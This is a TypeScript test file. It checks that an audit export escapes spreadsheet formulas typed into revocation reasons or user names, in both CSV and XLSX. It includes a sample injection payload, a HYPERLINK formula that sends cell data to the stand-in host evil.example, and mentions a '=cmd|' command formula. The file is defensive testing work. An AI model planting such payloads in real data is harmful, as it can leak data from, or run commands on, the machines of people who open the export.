/**
 * Attack (issue #18, audit export): someone whose words reach the audit (a revocation reason, a reprint
 * reason, a single sign-on user name) types a spreadsheet formula, `=HYPERLINK(...)` or `=cmd|'...'!A0`,
 * waiting for an admin to open the export in Excel, which would run it. Every text cell that a
 * spreadsheet would read as a formula is exported with a leading apostrophe, in CSV and in XLSX.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { inert } from '../../../central/reports/export.js';
import { revokeDocument } from '../../../central/store/document-verification.js';
import { addStaff } from '../../../central/store/staff-accounts.js';
import { hashPin } from '../../../lib/pin-hash.js';
import { staffSignIn } from '../../helpers/staff-browser.js';
import { useCentral } from '../central/central-fixture.js';

const central = useCentral();
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"lost")`;

describe('a formula typed into the audit', () => {
  it('is exported as text, never as a formula, in CSV and XLSX', async () => {
    const student = central.students.find((s) => s.record?.status === 'enrolled')!;
    const a = await central.store.authorize('kiosk-a', {
      jobId: 'j1',
      personId: student.id,
      kind: 'enrollment',
      language: 'zh',
      copies: 1,
    });
    await revokeDocument(central.store.sql, a.serial, FORMULA, '@os:mallory', new Date().toISOString());
    await addStaff(
      central.store.sql,
      { id: 'admin-1', card: '88000003', name: 'A', role: 'admin', sites: [], pinHash: hashPin('246813') },
      new Date().toISOString(),
    );
    const admin = await staffSignIn(central.url, '88000003', '246813');

    const csv = (await admin.bytes('/staff/audit/export.csv?action=document.revoked')).toString('utf8');
    expect(csv).toContain(`'@os:mallory`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""lost"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      (await admin.bytes('/staff/audit/export.xlsx?action=document.revoked')) as unknown as ExcelJS.Buffer,
    );
    const row = book.worksheets[0]!.getRow(2);
    expect(row.getCell(2).value).toBe(`'@os:mallory`);
    expect(row.getCell(8).value).toBe(`'${FORMULA}`);
    expect(row.getCell(8).formula).toBeUndefined();
  });

  it('every formula start is made inert; other text and numbers are unchanged', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(inert(s)).toBe(`'${s}`);
    expect(inert('在读证明, 2026')).toBe('在读证明, 2026');
    expect(inert(-5)).toBe(-5);
    expect(inert(null)).toBeNull();
  });
});
